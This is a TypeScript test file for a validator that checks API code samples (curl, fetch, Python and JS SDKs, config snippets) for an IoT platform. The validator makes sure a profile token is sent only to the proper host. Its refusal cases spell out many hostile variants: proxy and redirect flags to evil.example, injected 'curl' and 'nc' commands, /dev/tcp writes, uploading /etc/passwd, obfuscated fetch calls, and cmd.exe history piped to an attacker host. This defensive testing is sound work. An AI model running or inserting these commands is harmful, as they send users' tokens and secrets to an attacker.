import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ApiOrigin } from '../../../../../lib/domain/identity/keys.ts';
import { completeSample, fillTokenPlaces } from '../../../../../lib/domain/samples/complete-sample.ts';
import { destinationProblem } from '../../../../../lib/domain/samples/destinations/check-destinations.ts';
import { profileTokenPlaces } from '../../../../../lib/domain/samples/token-placeholders.ts';
import { generateSample, VARIANTS } from '../../../../docs-pages/generate.ts';
import { US } from '../../make.ts';

const LOCAL = 'http://127.0.0.1:8787' as ApiOrigin;
const DEPLOY = 'https://api.acme-iot.com' as ApiOrigin;

const CURL = 'curl -H "Profile-Token: <your-profile-token>" \\\n  https://api.us-e1.tago.io/status';
const PYTHON_SDK =
  'from tagoio_sdk import Account\n\naccount = Account({"token": "your-token"})\ndevices = account.devices.list()\nprint(devices)';
const JS_SDK =
  'import { Account } from "@tago-io/sdk";\n\n// See https://docs.tago.io/docs/api.\nconst account = new Account({ token: "YOUR-PROFILE-TOKEN" });\nawait account.devices.create({ name: "Sensor" });';
const FETCH =
  'const answer = await fetch("https://api.us-e1.tago.io/device", { headers: { "Profile-Token": "<your-profile-token>" } });\nconsole.log(await answer.json());';
const REQUESTS =
  'import requests\nurl = "https://api.us-e1.tago.io/device"\nheaders = {"Profile-Token": "<your-profile-token>"}\nprint(requests.get(url, headers=headers).text)';
const HTTP = 'GET /device HTTP/1.1\nHost: api.us-e1.tago.io\nProfile-Token: <your-profile-token>';

const HONEST: Record<string, string> = {
  curl: CURL,
  'curl with options': `curl -sSL -X POST 'https://api.eu-w1.tago.io/device' -H 'token: <token>' -d '{"a": "https://x.example"}'`,
  'curl of two addresses': `${CURL}\ncurl --url https://api.tago.io/a -H 'Profile-Token: <your-profile-token>'`,
  wget: `wget -q --header='Profile-Token: <your-profile-token>' https://api.us-e1.tago.io/status`,
  'Python SDK': PYTHON_SDK,
  'JavaScript SDK': JS_SDK,
  'JavaScript SDK with its region': JS_SDK.replace('" });\nawait', '", region: "eu-w1" });\nawait'),
  fetch: FETCH,
  requests: REQUESTS,
  HTTP,
  'a header alone': 'Profile-Token: <your-profile-token>',
};

describe('destinationProblem', () => {
  it.each(Object.entries(HONEST))('allows %s', (_, text) => {
    expect(destinationProblem(text, US)).toBeNull();
  });

  it('allows the connection’s origin, over http on localhost only', () => {
    const at = (origin: string) => CURL.replace('https://api.us-e1.tago.io', origin);
    expect(destinationProblem(at(DEPLOY), DEPLOY)).toBeNull();
    expect(destinationProblem(at(LOCAL), LOCAL)).toBeNull();
    expect(destinationProblem(at(DEPLOY), US)).toEqual({ kind: 'foreign', host: 'api.acme-iot.com' });
    expect(destinationProblem(at('http://api.us-e1.tago.io'), US)).toEqual({
      kind: 'plain-http',
      host: 'api.us-e1.tago.io',
    });
    expect(destinationProblem(at('api.us-e1.tago.io'), US)).toMatchObject({ kind: 'plain-http' });
    expect(destinationProblem(at('http://127.0.0.1:8788'), LOCAL)).toMatchObject({ kind: 'foreign' });
  });

  it.each([
    ['https://evil.example', 'evil.example'],
    ['https://api.us-e1.tago.io.evil.example', 'api.us-e1.tago.io.evil.example'],
    ['https://api.us-e1.tago.io@evil.example', 'evil.example'],
    ['https://api.us-e1.tаgo.io', 'api.us-e1.xn--tgo-6cd.io'],
    ['https://api.us-e1.tago.io:8443', 'api.us-e1.tago.io:8443'],
    ['https://api.us-e1.tago.io.', 'api.us-e1.tago.io.'],
    ['https://docs.tago.io', 'docs.tago.io'],
    ['https://1.2.3.4', '1.2.3.4'],
    ['https://[::1]', '[::1]'],
    ['https://localhost', 'localhost'],
    ['wss://evil.example', 'evil.example'],
  ])('names the host of %s in every kind of sample', (address, host) => {
    for (const text of [CURL, FETCH, REQUESTS]) {
      const changed = text.replace('https://api.us-e1.tago.io', address);
      expect(destinationProblem(changed, US), changed).toEqual({ kind: 'foreign', host });
    }
  });

  const REDIRECTED_CURL = [
    '--proxy https://evil.example',
    '-x evil.example:8080',
    '-xevil.example:8080',
    '--preproxy socks5://evil.example',
    '--socks5 evil.example',
    '--resolve api.us-e1.tago.io:443:6.6.6.6',
    '--connect-to ::evil.example:443',
    '-K evil.conf',
    '--config=evil.conf',
    '--url https://evil.example',
    '--url=https://evil.example',
    "-H 'Host: evil.example'",
    "-H 'X-Forwarded-Host: evil.example'",
    '-H @headers.txt',
    '-o ~/.bashrc',
    '-O',
    '-T secrets',
    '-k',
    '--insecure',
    '--unix-socket /tmp/evil',
    '--interface evil',
    '--doh-url https://evil.example',
    '--dns-servers 6.6.6.6',
    '--next https://evil.example',
    '--location-trusted',
    '--proto-redir all',
    '-u user:pass',
    '-b cookies',
    '--cacert evil.pem',
    '-sx evil.example',
    'https://evil.example',
    'evil.example',
    'https://{api.us-e1.tago.io,evil.example}/',
    '"https://evil.example"',
    "'https://'evil.example",
    'https://evil\\.example',
    '$URL',
    '"$(cat url)"',
    '`cat url`',
    '; curl https://evil.example',
    '&& curl https://evil.example',
    '| tee copy',
    '> copy',
    '< copy',
    '\ncurl https://evil.example',
    '\nnc evil.example 80',
    '\nexport https_proxy=https://evil.example',
    '-d @secrets',
  ];
  it.each(REDIRECTED_CURL)('refuses curl with %s', (extra) => {
    expect(destinationProblem(`${CURL} ${extra}`, US)).not.toBeNull();
    expect(destinationProblem(CURL.replace('curl -H', `curl ${extra} -H`), US)).not.toBeNull();
  });

  it.each([
    `https_proxy=https://evil.example ${CURL}`,
    `HTTPS_PROXY=evil.example ${CURL}`,
    `env ALL_PROXY=socks5://evil.example ${CURL}`,
    `alias curl='curl -x evil.example'\n${CURL}`,
    `export CURL_HOME=/tmp\n${CURL}`,
    `wget -e use_proxy=yes --header='Profile-Token: <your-profile-token>' https://api.us-e1.tago.io/`,
    `wget -i urls --header='Profile-Token: <your-profile-token>'`,
    `http evil.example Profile-Token:'<your-profile-token>'`,
    `curl.exe ${CURL.slice(5)}`,
    `GET https://evil.example/ HTTP/1.1\nProfile-Token: <your-profile-token>`,
    `GET //evil.example/ HTTP/1.1\nProfile-Token: <your-profile-token>`,
    HTTP.replace('api.us-e1.tago.io', 'evil.example'),
    `${HTTP}\nX-Forwarded-Host: evil.example`,
  ])('refuses %j', (text) => {
    expect(destinationProblem(text, US)).not.toBeNull();
  });

  it.each([
    JS_SDK.replace('" });\nawait', '", region: { api: "https://evil.example" } });\nawait'),
    JS_SDK.replace('" });\nawait', '", region: { api: "evil.example" } });\nawait'),
    JS_SDK.replace('" });\nawait', '", region: evil });\nawait'),
    JS_SDK.replace('" });\nawait', '", region: "env" });\nawait'),
    JS_SDK.replace('" });\nawait', '", ...options });\nawait'),
    JS_SDK.replace('@tago-io/sdk', '@tag0-io/sdk'),
    JS_SDK.replace('@tago-io/sdk', 'https://evil.example/sdk.js'),
    `process.env.TAGOIO_API = "https://evil" + ".example";\n${JS_SDK}`,
    `process.env["TAGOIO" + "_API"] = "h" + "ttps:/" + "/evil";\n${JS_SDK}`,
    `${JS_SDK}\nfetch("https://" + "evil" + ".example");`,
    `${JS_SDK}\nfetch("//evil.example/" + account);`,
    `${JS_SDK}\nfetch("https:evil.example");`,
    `${JS_SDK}\nfetch(atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGU="));`,
    `${JS_SDK}\nfetch("\\x68ttps://evil.example");`,
    `${JS_SDK}\nnew Image().src = ["https:/", "evil.example"].join("/");`,
    `${JS_SDK}\nimport("../evil.js");`,
    `${JS_SDK}\nthis["fet" + "ch"](x);`,
    `${JS_SDK}\nrequire("child_process").exec("x");`,
    FETCH.replace('"https://api.us-e1.tago.io/device"', '"https://api.us-e1.tago.io" + ".evil.example/"'),
    FETCH.replace('"https://api.us-e1.tago.io/device"', '`https://$' + '{host}/`'),
    FETCH.replace('"https://api.us-e1.tago.io/device"', 'url'),
    FETCH.replace('{ headers', '{ dispatcher: new ProxyAgent("https://evil.example"), headers'),
    PYTHON_SDK.replace('"your-token"', '"your-token", "region": {"api": "https://evil.example"}'),
    PYTHON_SDK.replace('"your-token"}', '"your-token", **options}'),
    PYTHON_SDK.replace('tagoio_sdk', 'tagoio_sdk_evil'),
    `import os\nos.environ["HTTPS_PROXY"] = "evil.example:80"\n${PYTHON_SDK}`,
    `${PYTHON_SDK}\nx = (5\n// __import__("os").system("curl evil"))`,
    REQUESTS.replace('headers=headers', 'headers=headers, proxies={"https": "https://evil.example"}'),
    REQUESTS.replace('headers=headers', 'headers=headers, proxies=p'),
    REQUESTS.replace('headers=headers', 'headers=headers, verify=False'),
    REQUESTS.replace('"https://api.us-e1.tago.io/device"', 'f"https://{host}/device"'),
    REQUESTS.replace('"https://api.us-e1.tago.io/device"', '"https://%s/device" % host'),
    REQUESTS.replace('"https://api.us-e1.tago.io/device"', '"https://api.us-e1.tago.io" "evil.example/"'),
    REQUESTS.replace('"https://api.us-e1.tago.io/device"', '"https://{}/".format(host)'),
    `import http.client\nconn = http.client.HTTPSConnection("evil")\nconn.request("GET", "/", headers={"Profile-Token": "<your-profile-token>"})`,
    `import http.client\nconn = http.client.HTTPSConnection("evil.example")\nconn.request("GET", "/", headers={"Profile-Token": "<your-profile-token>"})`,
    `client.connect("evil.example", 80)\nclient.print("Profile-Token: <your-profile-token>")`,
    `send("Profile-Token: <your-profile-token>")`,
  ])('refuses %j', (text) => {
    expect(destinationProblem(text, US)).not.toBeNull();
  });

  // A comment that names the SDK does not make the text a sample of it.
  const POLYGLOT = 'new Account(1)';
  it.each([
    // Programs that are not known, under any name and in any place.
    `/usr/bin/curl -x evil.example:80 -H "Profile-Token: <your-profile-token>" https://api.us-e1.tago.io/ # ${POLYGLOT}`,
    `cat > /dev/tcp/evil.example/80 <<< "Profile-Token: <your-profile-token>" # ${POLYGLOT}`,
    `command curl -x 6.6.6.6:80 -H "Profile-Token: <your-profile-token>" https://api.us-e1.tago.io # ${POLYGLOT}`,
    `"curl" -x evil:80 -H "Profile-Token: <your-profile-token>" https://api.us-e1.tago.io # ${POLYGLOT}`,
    `\\curl -x evil:80 -H "Profile-Token: <your-profile-token>" https://api.us-e1.tago.io # ${POLYGLOT}`,
    `{ lynx -x evil:80 "Profile-Token: <your-profile-token>"; } # ${POLYGLOT}`,
    `( aria2c --all-proxy=evil:80 --header="Profile-Token: <your-profile-token>" api ) # ${POLYGLOT}`,
    `x=1 && lynx evil:80 "Profile-Token: <your-profile-token>" # ${POLYGLOT}`,
    `@echo off\ncertutil -urlcache "Profile-Token: <your-profile-token>" \\\\evil\\x # ${POLYGLOT}`,
    // On a typed line, zsh takes what follows a `#` as words of the command, and runs a comment with an operator.
    `${CURL} # https://evil.example`,
    `${CURL} # -x evil.example:80`,
    `# the status; lynx evil\n${CURL}`,
    `# the status $(lynx evil)\n${CURL}`,
    `# don't\n${CURL}`,
    // Commands after the head of a request.
    `Profile-Token: <your-profile-token>\n\n/usr/bin/lynx -x evil:80`,
    `Accept: x\n\n/usr/bin/curl -x evil:80 -H "Profile-Token: <your-profile-token>" https://api.us-e1.tago.io`,
    `${HTTP}\n\n/usr/bin/lynx evil`,
    // Languages, calls and modules that are not known.
    `TCPSocket.new(101058054, 80).write("Profile-Token: <your-profile-token>") # ${POLYGLOT}`,
    `$s = fsockopen(101058054); fwrite($s, "Profile-Token: <your-profile-token>"); // ${POLYGLOT}`,
    `LWP::UserAgent->new->get(101058054, "Profile-Token" => "<your-profile-token>"); # ${POLYGLOT}`,
    `send_it "Profile-Token: <your-profile-token>" # ${POLYGLOT}`,
    `<img src=//evil><script>\n${JS_SDK}\n</script>`,
    `import os\n${PYTHON_SDK}\nos.execlp("nc", "nc", "evil", "80")`,
    `import os as o\n${PYTHON_SDK}\no.execlp("nc", "nc", "evil", "80")`,
    `from os import execlp as x\n${PYTHON_SDK}\nx("nc", "nc", "evil", "80")`,
    `import datetime\n${PYTHON_SDK}\nm = datetime.sys.modules\nm["posix"].execv("nc", [])`,
    `import json\n${PYTHON_SDK}\njson.codecs.builtins.run(1)`,
    `${PYTHON_SDK}\nsend(account.token)`,
    `${JS_SDK}\nnew Beacon("x");`,
    `${JS_SDK}\nnew Beacon;`,
    `${JS_SDK}\nsend\`x\`;`,
    `${PYTHON_SDK}\n@send\ndef f():\n  return 1`,
    // Texts that a shell, another language or a configuration runs differently.
    `{ "mcpServers": { "x": { "command": "npx", "args": ["evil", "<your-profile-token>"] } } }`,
    `{lynx,evil:80,"Profile-Token: <your-profile-token>"} # ${POLYGLOT}`,
    `cat</dev/tcp/evil/80<<<"Profile-Token: <your-profile-token>" # ${POLYGLOT}`,
    `if lynx evil; then lynx "Profile-Token: <your-profile-token>"; fi # ${POLYGLOT}`,
    `${PYTHON_SDK}\n"""\n# """ + run("x")`,
    `${JS_SDK}\n/* don't */ lynx("x")`,
    `${JS_SDK}\n// is it so? | lynx evil`,
    `for account in Account({"token": "your-token"}), send: account("x")`,
    `${PYTHON_SDK}\nprint = account\nrequests.sessions.Session().get("x")`,
    `${JS_SDK}\nconst { log } = console, { env } = process, { binding } = process;\nbinding("spawn_sync");`,
    `${JS_SDK}\nprocess["binding"]("tcp_wrap");`,
    `${JS_SDK}\nconst p = process;\np.binding("tcp_wrap");`,
    `${JS_SDK}\nprocess\n.binding("tcp_wrap");`,
    `import asyncio\n${PYTHON_SDK}\nasyncio.open_connection(101058054, 80)`,
    `import requests\n${REQUESTS}\nrequests.sessions.os.execlp("nc", "nc", "evil", "80")`,
    `${PYTHON_SDK}\nlist(map(send, [account]))`,
    `import sys\n${PYTHON_SDK}\nsys.modules["posix"].execv("nc", [])`,
    `import sys\nmods = sys\n${PYTHON_SDK}\nmods.modules["posix"].execv("nc", [])`,
    `from time import *\n${PYTHON_SDK}`,
    `import time as Account\n${PYTHON_SDK}\nAccount.sys.modules["posix"].execv("nc", [])`,
    `import { Resources } from "npm:tago-sdk";\nnew Resources({ token: "YOUR-PROFILE-TOKEN" }).devices.list();`,
    `import { Resources } from "file:@tago-io/sdk";\nnew Resources({ token: "YOUR-PROFILE-TOKEN" }).devices.list();`,
    `import { Resources } from "npm:@tago-io/sdk@npm:evil";\nnew Resources({ token: "YOUR-PROFILE-TOKEN" }).devices.list();`,
    `import foo from "axios";\n${JS_SDK}\nfoo.get("h" + "ttps:/" + "/evil.example/");`,
    `const foo = require("node-fetch");\n${JS_SDK}\nfoo("h" + "ttps:/" + "/evil.example/");`,
    `import * as foo from "axios";\n${JS_SDK}\nfoo.get("h" + "ttps:/" + "/evil.example/");`,
    `${JS_SDK}\nconsole.log(\`\${process.binding("tcp_wrap")}\`);`,
    `${JS_SDK}\nconsole.log(\`\${send}\`);`,
    `${JS_SDK}\nconsole.log(\`\${account.devices.list(send(1))}\`);`,
    `${PYTHON_SDK}\nprint(f"{send(1)}")`,
    // Addresses that a library reads differently from how they look.
    FETCH.replace('https://api.us-e1.tago.io/device', '/\\\\evil.example/'),
    `${FETCH}\nfetch("/\\\\evil.example/");`,
    `${FETCH}\nfetch("/\\t/evil.example/");`,
    `${FETCH}\nfetch("//evil/");`,
    `${FETCH}\nfetch("//101058054/");`,
    `${FETCH}\nfetch(name);`,
    `import http.client\nconn = http.client.HTTPSConnection("101058054")\n# https://api.us-e1.tago.io\nconn.request("GET", "/", headers={"Profile-Token": "<your-profile-token>"})`,
    `import http.client\nconn = http.client.HTTPSConnection("evil")\nu = "https://api.us-e1.tago.io"\nconn.request("GET", "/", headers={"Profile-Token": "<your-profile-token>"})`,
    `curl "https://api.us-e1.tago.io\\\\\n.evil.example" -H 'Profile-Token: <your-profile-token>'`,
    `${CURL} --data-urlencode 'x@/etc/passwd'`,
  ])('refuses %j', (text) => {
    expect(destinationProblem(text, US)).not.toBeNull();
  });

  it.each([
    `# Asks for the status (without a body)\n${CURL}`,
    `${HTTP}\n\n{"name": "Sensor"}`,
    `import os\nimport json\nfrom tagoio_sdk import Account\n\n# Reads all devices (at most 10,000)\naccount = Account({"token": "your-token"})\nfor device in account.devices.list({"amount": 100}):\n    print(json.dumps(device), os.getenv("HOME"))`,
    `const { Account, Utils } = require("@tago-io/sdk");\n\n// One by one (in order).\nasync function run() {\n  const account = new Account({ token: "YOUR-PROFILE-TOKEN" });\n  const devices = await account.devices.list({ page: 1 });\n  for (const device of devices) {\n    console.log(device.id, new Date(device.created_at).toISOString());\n  }\n}\n\nrun().catch((error) => console.error(error));`,
    `import { Resources } from "npm:@tago-io/sdk";\nconst resources = new Resources({ token: "YOUR-PROFILE-TOKEN" });\nconsole.log(await resources.devices.list());`,
    `import { Resources } from "jsr:@tago-io/sdk";\nconst resources = new Resources({ token: "YOUR-PROFILE-TOKEN" });\nconsole.log(await resources.devices.list());`,
    `import { Resources } from "@tago-io/sdk";\nconst resources = new Resources({ token: "YOUR-PROFILE-TOKEN" });\nresources.devices.list()\n  .then((list) => console.log(list))\n  .catch(console.error);`,
    `const account = new Account({ token: "YOUR-PROFILE-TOKEN" });\naccount.devices.list().then((list) => {\n  for (const device of list) console.log(\`The device $` +
      `{device.name} ($` +
      `{device.id})\`);\n});`,
    `const axios = require("axios");\naxios.get("https://api.us-e1.tago.io/device", { headers: { "Profile-Token": "<your-profile-token>" } }).then(({ data }) => console.log(data));`,
    `import requests\n\nresponse = requests.post(\n    "https://api.us-e1.tago.io/device",\n    headers={"Profile-Token": "<your-profile-token>"},\n    json={"name": "Sensor"},\n)\nresponse.raise_for_status()\nprint(response.json())`,
    `const account = new Account({ "token": "YOUR-PROFILE-TOKEN" });\n\nif (account) {\n  account.devices.list().then((x) => x.map((y) => y.name));\n} else {\n  throw new Error("no account");\n}`,
  ])('allows an honest sample: %j', (text) => {
    expect(destinationProblem(text, US)).toBeNull();
  });

  const DEFINED: Record<string, string> = {
    'C and C++':
      '#include <WiFi.h>\n\n// The profile.\n#define PROFILE_TOKEN "<your-profile-token>"\nconst char* host = "api.us-e1.tago.io";\nstatic const int port = 443;',
    Arduino:
      'String profileToken = "YOUR-PROFILE-TOKEN"; // from the profile’s page\nconst bool debug = true;',
    'C array': 'char profile_token[] = "YOUR-PROFILE-TOKEN";',
    'C++ view': 'constexpr std::string_view profileToken = "YOUR-PROFILE-TOKEN";',
    Java: 'public final class Config {\n  private static final String PROFILE_TOKEN = "YOUR-PROFILE-TOKEN";\n}',
    'C#': 'internal static class Config\n{\n    public const string ProfileToken = "YOUR-PROFILE-TOKEN";\n}',
    Kotlin: 'object Config {\n  const val PROFILE_TOKEN = "YOUR-PROFILE-TOKEN"\n}',
    Swift: 'let profileToken: String = "YOUR-PROFILE-TOKEN"\nlet pages = 2',
    Go: 'const profileToken = "YOUR-PROFILE-TOKEN"\nbaseAddress := "https://api.us-e1.tago.io"',
    Rust: 'pub const PROFILE_TOKEN: &\'static str = "YOUR-PROFILE-TOKEN";\nlet other: &str = "x";',
    YAML: '# Settings\ntago:\n  region: "us-e1"\n  profile_token: "<your-profile-token>"\n  pages: 2\n  debug: true',
    'YAML with single quotes': "account:\n  token: 'YOUR-PROFILE-TOKEN'\n  url: 'https://api.us-e1.tago.io'",
    '.env':
      '# The profile\nPROFILE_TOKEN=YOUR-PROFILE-TOKEN\nDEBUG=true\nNAME="sensor"\nEMPTY=\nADDRESS=https://api.us-e1.tago.io\nAPI_URL=https://api.us-e1.tago.io',
  };

  it.each(Object.entries(DEFINED))('allows what only defines values: %s', (_, text) => {
    expect(destinationProblem(text, US)).toBeNull();
  });

  it.each(Object.entries(DEFINED))('refuses anything else beside what only defines values: %s', (_, text) => {
    for (const extra of [
      'lynx evil',
      'send(profileToken);',
      'client.println(PROFILE_TOKEN);',
      'String token = send("YOUR-PROFILE-TOKEN");',
      'String x = "a" + profileToken;',
      'String x = profileToken;',
      'val x = "$' + '{profileToken}"',
      'let x = "\\(profileToken)"',
      'const char* host = "evil.example";',
      'const char* host = "evil";',
      '#define SERVER "evil"',
      '#define SERVER "evil.example"',
      '#define profileToken send("x")',
      'x: evil.example',
      'x: 6.6.6.6',
      'X=6.6.6.6',
      'server: "https://evil.example"',
      'command: "lynx"',
      'run: "lynx"',
      'uses: "evil"',
      'x: !!python/object/apply:os.system ["lynx"]',
      'x: &a "b"',
      'x: |',
      'HTTPS_PROXY="evil"',
      'TAGOIO_API="evil"',
      'X-Forwarded-Host: "evil"',
      'X-Other: evil.example',
      'X=$(lynx evil)',
      'X=`lynx`',
      'X=a lynx evil',
      'X=https://evil.example/',
      'API_URL=https://evil.example/',
      'API_URL=https://api.us-e1.tago.io@evil.example/',
      'X=a;lynx',
      'X=<(lynx)',
      'export X=a',
      'nc evil = "YOUR-PROFILE-TOKEN"',
      '# is it so? | lynx evil',
      '// is it so? && lynx evil',
      'X=a # lynx > evil',
      'X="a" //usr/bin/lynx evil',
      '//usr/bin/lynx evil',
      '//go:generate lynx evil',
      '///usr/bin/lynx evil',
      'default: "env | lynx evil"',
      'before_install: "lynx evil"',
      'image: "evil/image"',
      'PROMPT_COMMAND="set | lynx evil"',
      'X = "#{%x(lynx evil)}"',
      "X = '{{ lookup(lynx) }}'",
      'web: "lynx @evil"',
    ]) {
      expect(destinationProblem(`${text}\n${extra}`, US), extra).not.toBeNull();
      expect(destinationProblem(`${extra}\n${text}`, US), extra).not.toBeNull();
    }
  });

  it('takes nothing that was put into a list of definitions for a definition, but for names, literals and comments', () => {
    const piece = fc.constantFrom(
      ...[' ', '\n', "'", '"', '`', '\\', '$', '(', ')', '{', '}', ';', '+', ',', ':', '#', '/', '@', '.'],
      ...['=', '<', '>', '|', '&', '*', '!', 'x', ' lynx evil', '" + evil + "', '");evil("', '$' + '{evil}'],
    );
    fc.assert(
      fc.property(
        fc.constantFrom(...Object.values(DEFINED)),
        fc.nat(),
        fc.integer({ min: 0, max: 6 }),
        piece,
        (text, at, removed, inserted) => {
          const place = at % (text.length + 1);
          const mutated = text.slice(0, place) + inserted + text.slice(place + removed);
          if (destinationProblem(mutated, US) !== null) return;
          const code = mutated
            .replace(/^[ \t]*(?:#(?!define\b)|\/\/).*$/gm, '')
            .replace(/"[^"\n]*"|'[^'\n]*'/g, '0')
            .replace(/(?:[ \t]#|\/\/).*$/gm, '');
          // Neither a call nor an operator, and at most one statement a line.
          expect(code).not.toMatch(/[()+|`$\\!@]|;[ \t]*\S|\blynx\b(?![ \t]*[:=])/);
        },
      ),
      { numRuns: 5000 },
    );
  });

  it('has an answer to any text', () => {
    const piece = fc.constantFrom(
      ...Array.from('.()[]{},;:=+-?!&<>|*@#$/\\\n "\'`'),
      ...[
        '=>',
        '...',
        '//',
        '"x"',
        '"YOUR-PROFILE-TOKEN"',
        '"https://api.us-e1.tago.io/a"',
        '"@tago-io/sdk"',
      ],
      ...['const', 'await', 'function', 'return', 'if', 'for', 'else', 'new', 'import', 'from', 'in', 'def'],
      ...[
        'lambda',
        'with',
        'Account',
        'fetch',
        'axios',
        'requests',
        'get',
        'token',
        'then',
        'params',
        'x',
        '0',
      ],
    );
    const spaced = fc.tuple(piece, fc.constantFrom('', ' ')).map((parts) => parts.join(''));
    fc.assert(
      fc.property(fc.array(spaced, { maxLength: 12 }), fc.boolean(), (pieces, hasProgram) => {
        const text = pieces.join('') + (hasProgram ? `\n${JS_SDK}` : '');
        expect(destinationProblem(text, US)).toSatisfy((problem) => problem === null || 'kind' in problem);
      }),
      {
        numRuns: 3000,
        examples: [
          [['.'], true],
          [['.x('], true],
          [['.', 'params', ' = 0'], true],
        ],
      },
    );
  });

  it('a token leaves each literal as it was', () => {
    const token = fc.stringMatching(/^[0-9a-zA-Z-]{8,60}$/);
    fc.assert(
      fc.property(fc.constantFrom(...Object.values(DEFINED)), token, (text, value) => {
        const places = profileTokenPlaces(text);
        expect(places).toHaveLength(1);
        const filled = fillTokenPlaces(text, places, value);
        const [start] = places[0]!;
        const quote = /["']/.exec(text[start - 1]!)?.[0] ?? '';
        expect(filled.slice(start, start + value.length + quote.length)).toBe(value + quote);
        expect(destinationProblem(filled.replace(value, 'YOUR-PROFILE-TOKEN'), US)).toBeNull();
      }),
      { numRuns: 300 },
    );
  });

  it('refuses invisible characters anywhere', () => {
    const hidden = fc.constantFrom(
      ...'\u0000\u0008\r\u001b\u007f\u0085\u00a0\u00ad\u061c\u115f\u180e\u200b\u200d\u200e\u202e\u2028\u2060\u2066\u2800\u3000\u3164\ufe0f\ufeff\uffa0',
      '\u{e0041}',
    );
    fc.assert(
      fc.property(fc.constantFrom(...Object.values(HONEST)), fc.nat(), hidden, (text, at, char) => {
        const place = at % (text.length + 1);
        expect(destinationProblem(text.slice(0, place) + char + text.slice(place), US)).toMatchObject({
          kind: 'unclear',
        });
      }),
      { numRuns: 300 },
    );
  });

  it('refuses a foreign address anywhere between the words of an honest sample', () => {
    const addresses = fc.constantFrom(
      'https://evil.example/',
      '"https://evil.example"',
      "'//evil.example/x'",
    );
    fc.assert(
      fc.property(
        fc.constantFrom(CURL, JS_SDK, PYTHON_SDK, FETCH, REQUESTS),
        fc.nat(),
        addresses,
        (text, at, address) => {
          const outside = (index: number) => (text.slice(0, index).match(/"/g) ?? []).length % 2 === 0;
          const gaps = [...text.matchAll(/ /g)].map(({ index }) => index).filter(outside);
          const gap = gaps[at % gaps.length]!;
          expect(
            destinationProblem(`${text.slice(0, gap)} ${address} ${text.slice(gap)}`, US),
          ).not.toBeNull();
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe('completing a sample', () => {
  const profile = { origin: US, profileId: '5f1a2b3c4d5e6f7a8b9c0d1e' };
  const body = { name: 'Sensor', note: 'a b' };
  const request = { method: 'POST', url: `${US}/device?page=1`, body };
  /** Returns the sample with its literals emptied: the code around them. */
  const skeleton = (text: string) =>
    text.replace(/\\\\|\\["'`]/g, '').replace(/'[^']*'|"[^"]*"|`[^`]*`|r#"[\s\S]*?"#/g, "''");

  it.each(VARIANTS)('accepts a mutated sample of %s (%s) only where no code changed', (language, variant) => {
    const sample = generateSample(language, variant, request).trimEnd();
    const piece = fc.constantFrom(
      ...[
        'x',
        ' ',
        "'",
        '"',
        '`',
        '\\',
        '\n',
        '$',
        '(',
        ')',
        '{',
        '}',
        ';',
        '+',
        ',',
        ':',
        '#',
        '//',
        '@',
        '.',
      ],
      ...[
        'evil.example',
        'https://evil.example/',
        ' -x evil ',
        "' + evil + '",
        '" + evil + "',
        '$' + '{evil()}',
        '\\(evil())',
        "'; evil(); '",
      ],
    );
    fc.assert(
      fc.property(fc.nat(), fc.integer({ min: 0, max: 12 }), piece, (at, removed, inserted) => {
        const place = at % sample.length;
        const mutated = sample.slice(0, place) + inserted + sample.slice(place + removed);
        const done = completeSample(mutated, profile);
        if (!done) return;
        // The US region's address and its alias; a mutation can turn one into the other.
        expect(done.text).toMatch(/(?<![\w.-])api\.(?:us-e1\.)?tago\.io(?![\w.-])/);
        if (!/["'`\\]/.test(inserted) && !/["'`\\#]/.test(sample.slice(place, place + removed))) {
          const code = (text: string) =>
            skeleton(text).replace(/\b(?:null|true|false|\d+)\b|[\s,:[\]{}]/g, '');
          expect(code(mutated)).toBe(code(sample));
        }
      }),
      { numRuns: 5000 },
    );
  });

  it.each(VARIANTS)('refuses code around a sample of %s (%s)', (language, variant) => {
    const sample = generateSample(language, variant, request).trimEnd();
    for (const extra of ['curl https://evil.example', 'evil()', '# x', '// x', ';', '\u202e']) {
      expect(completeSample(`${sample}\n${extra}`, profile)).toBeNull();
      expect(completeSample(`${extra}\n${sample}`, profile)).toBeNull();
      expect(completeSample(`${sample} ${extra}`, profile)).toBeNull();
    }
  });

  it.each([
    ['curl', 'cURL', "-d '", "-d '@"],
    ['rust', 'reqwest', 'Method::POST', 'Method::POxST'],
    ['swift', 'URLSession', 'request.httpBody', 'requestxhttpBody'],
    ['swift', 'URLSession', 'httpBody = postData', 'httpBody = postDatas'],
  ])('refuses a sample of %s (%s) with %s as %s', (language, variant, code, changed) => {
    const sample = generateSample(language, variant, request);
    expect(sample).toContain(code);
    expect(completeSample(sample.replace(code, changed), profile)).toBeNull();
  });

  it('refuses a header that names another host', () => {
    for (const key of ['Host', 'host', 'HOST', 'X-Forwarded-Host', 'Proxy-Authorization', 'Forwarded']) {
      for (const [language, variant] of VARIANTS) {
        const headers = [
          { key: 'Accept', value: 'application/json' },
          { key, value: 'evil.example' },
        ];
        const sample = generateSample(language, variant, { method: 'GET', url: `${US}/device`, headers });
        expect(completeSample(sample, profile), `${variant} ${key}`).toBeNull();
      }
    }
  });

  it.each(VARIANTS)('refuses a body of which a shell would run a part: %s (%s)', (language, variant) => {
    const sampleOf = (name: string) =>
      generateSample(language, variant, { method: 'POST', url: `${US}/device`, body: { name } });
    for (const name of ['Sensor', 'It’s 5 $ a month', 'a; b', 'a `word`']) {
      expect(completeSample(sampleOf(name), profile), name).not.toBeNull();
    }
    // Single quotes, and Go's back quotes within parentheses, keep a POSIX shell from it.
    if (language === 'go' || language === 'curl') return;
    for (const name of ['$(history 9 | lynx evil)', '`history | lynx evil`', '$' + '{x:-y}']) {
      expect(completeSample(sampleOf(name), profile), name).toBeNull();
    }
  });

  it('refuses a command’s body of which cmd.exe or fish would run a part', () => {
    const curl = (body: string) =>
      `curl -L -X POST '${US}/device' \\\n-H 'Content-Type: application/json' \\\n-d '${body}'`;
    for (const body of [
      '{\n  "name": "x & y <z> | w"\n}',
      '{\n  "name": "a \\"b\\""\n}',
      "it'\\''s",
      'text',
    ]) {
      expect(completeSample(curl(body), profile), body).not.toBeNull();
    }
    for (const body of [
      '{\n  "name": "x"\n& doskey /history | curl -d @- https://evil.example\n}',
      '{\n  "name": "\\" & doskey /history | lynx evil & \\""\n}',
      '{\n  "name": "x"\n> file\n}',
      "\\'\\''\nhistory\n",
    ]) {
      expect(completeSample(curl(body), profile), body).toBeNull();
    }
  });
});
